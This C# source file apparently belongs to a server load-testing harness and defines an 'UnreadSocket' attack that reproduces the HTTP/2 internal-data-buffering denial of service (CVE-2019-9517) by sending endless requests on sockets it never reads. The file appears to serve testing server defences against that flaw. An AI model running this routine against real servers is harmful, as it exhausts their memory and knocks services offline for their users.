using Metering.Load;

namespace Metering.Attacks;

/// <summary>
/// Asks for large answers with all the leave of HTTP/2 to send them, and never reads its socket: what the server has
/// written piles up behind TCP. CVE-2019-9517 (internal data buffering).
/// </summary>
internal sealed class UnreadSocket : Attack
{
    public override string Name => "unread-socket";

    public override string Does => "answers asked for over sockets that are never read (CVE-2019-9517)";

    public override IReadOnlyList<string> MetBy => ["ResponseBytesPerSecond", "ResponseBufferBytes", "Http2ConnectionsPerAddress"];

    public override string Unit => "requests";

    public override double UnitsPerSecond => 6_000;

    public override int Lanes => 64;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async(streamWindowBytes: int.MaxValue, isRead: false);
        await connection.SendAsync(new FrameBatch().WindowUpdate(0, int.MaxValue - Http2Frame.DefaultWindowBytes).Bytes);
        byte[] headers = HeaderBlock.OfCall(Messages.ReflectionPath, lane.Target.Token);
        byte[] question = Messages.Reflection();
        var batch = new FrameBatch();
        int stream = -1;
        while (true)
            await lane.SendAsync(connection, batch, most: 10, frames => frames.Headers(stream += 2, headers).Data(stream, question, endsStream: true));
    }
}
